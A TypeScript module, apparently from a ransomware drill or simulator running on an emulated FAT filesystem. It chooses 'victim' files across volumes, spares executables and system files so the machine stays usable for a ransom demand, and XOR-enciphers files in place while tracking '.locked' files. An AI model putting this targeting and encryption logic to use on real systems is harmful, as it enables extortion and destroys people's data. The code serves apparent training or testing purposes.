/** Which file is next, and how it is enciphered: XOR with a stream of chance, in place. */
import type { FatFs } from '../fat/fatfs.ts'
import { FatFsError, FR_INT_ERR } from '../fat/fatfs-memory.ts'
import { walkFiles } from '../fat/walk-files.ts'
import { nextWord } from '../random-words.ts'
import { rootOf } from '../volume-names.ts'

export const LOCKED_ENDING = '.locked'
export const NOTE = 'READ-ME-DRILL.txt'
/** Programs and what the system starts from: who wants to be paid leaves a machine that still runs. */
const SPARED = /\.(exe|dll|sys|ini|dat|ver|job|locked)$/i
const DATABASE = /\.db(-journal|-wal)?$/i
/** A multiple of the stream's four-byte words. */
const PART_BYTES = 32_768
/** Streams of two files differ in one word at first: so many draws mix it into all. */
const WARM_UP_DRAWS = 32

/** The first document in the order of the folders' entries, then the first database; undefined when none is left. Throws FatFsError. */
export function nextVictim(files: FatFs, done: readonly string[]): string | undefined {
  const left = pathsOf(files).filter((path) => !SPARED.test(path) && !isNote(path) && !done.includes(path))
  return left.find((path) => !DATABASE.test(path)) ?? left[0]
}

/** Files that were enciphered, by whichever key. Throws FatFsError. */
export const countLocked = (files: FatFs): number =>
  pathsOf(files).filter((path) => path.toLowerCase().endsWith(LOCKED_ENDING)).length

const isNote = (path: string): boolean => path.toUpperCase() === NOTE.toUpperCase()

/** Of all volumes, C: first; without those of folders that a walk leaves out. */
const pathsOf = (files: FatFs): string[] =>
  files.volumes.flatMap((volume) => walkFiles(files, () => {}, rootOf(volume)).map(({ path }) => path))

/** Sets the stream to the beginning of the `fileNumber`-th file of a key. */
export function startKeystream(stream: Uint32Array, key: Uint32Array, fileNumber: number): void {
  stream.set(key)
  stream[1] = ((key[1] ?? 0) ^ fileNumber) >>> 0
  // all zero is the one state in which the generator stands still
  stream[0] = (stream[0] ?? 0) | 1
  for (let draw = 0; draw < WARM_UP_DRAWS; draw++) nextWord(stream)
}

/** In place, and on the disk when it returns. Throws FatFsError. */
export function encipherFile(files: FatFs, path: string, stream: Uint32Array): void {
  files.withFile(path, 'write', (slot) => {
    const lengthBytes = files.length(slot)
    const buffer = new Uint8Array(PART_BYTES)
    for (let offset = 0; offset < lengthBytes; offset += PART_BYTES) {
      const part = buffer.subarray(0, Math.min(PART_BYTES, lengthBytes - offset))
      if (files.read(slot, offset, part) !== part.length) throw new FatFsError(FR_INT_ERR)
      applyKeystream(part, stream)
      if (files.write(slot, offset, part) !== part.length) throw new FatFsError(FR_INT_ERR)
    }
    files.sync(slot)
  })
}

/** Twice with the same stream gives the bytes back. A part that is not the last has a length that is a multiple of 4. */
export function applyKeystream(bytes: Uint8Array, stream: Uint32Array): void {
  let word = 0
  for (let at = 0; at < bytes.length; at++) {
    word = at % 4 === 0 ? nextWord(stream) : word >>> 8
    bytes[at] = (bytes[at] ?? 0) ^ (word & 0xff)
  }
}
